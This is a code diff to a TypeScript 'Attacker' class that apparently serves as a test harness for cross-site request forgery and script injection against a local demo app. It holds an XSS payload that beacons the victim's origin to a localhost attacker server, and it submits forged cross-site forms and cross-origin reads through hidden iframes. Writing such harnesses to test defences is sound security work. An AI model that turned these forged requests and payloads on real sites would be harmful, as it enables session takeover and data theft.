@@ -54,11 +54,13 @@ export class Attacker {
     this.server.close()
   }
 
-  /** Every call in every encoding; one of them makes the site's settings a page with a script. */
+  /** Every call as text, one in every encoding; one call makes the site's settings a page with a script. */
   private get forms(): Form[] {
     const script = `<script>new Image().src = '${this.url('127.0.0.1')}/pwned?' + origin</script>`
     const page: [string, object] = ['/api/__demo__/next', { call: '/api/app', times: 99, text: script }]
-    return [page, ...CALLS].flatMap(([path, body]) => ENCODINGS.map((encoding) => ({ path, body, encoding })))
+    return [page, ...CALLS]
+      .flatMap(([path, body]) => ENCODINGS.map((encoding) => ({ path, body, encoding })))
+      .filter(({ path, encoding }) => encoding === ENCODINGS[0] || path === CALLS[0]![0])
   }
 
   /** What takes over the tab, in turn: calls as text, then the page that would hold the script. */
@@ -117,7 +119,7 @@ function tryAll(target: string, forms: Form[]): void {
       add('iframe', { name: `frame${index}` })
       submitForm(target, form, `frame${index}`)
     }
-    const reads = ['/api/app', '/api/getVisitUrl', '/api/__demo__/state', '/api/game/list']
+    const reads = ['/api/app', '/api/getVisitUrl']
     for (const read of reads) {
       const src = target + read
       for (const tag of ['iframe', 'embed', 'script', 'img']) add(tag, { src })
@@ -133,7 +135,8 @@ function tryAll(target: string, forms: Form[]): void {
       '/demo-agent.html',
     ])
       add('iframe', { src: target + path, className: 'page' })
-    const sent = forms.flatMap(({ path, body }) => {
+    const texts = forms.filter(({ encoding }) => encoding === 'text/plain')
+    const sent = texts.flatMap(({ path, body }) => {
       const text = JSON.stringify(body)
       const json = {
         method: 'POST',
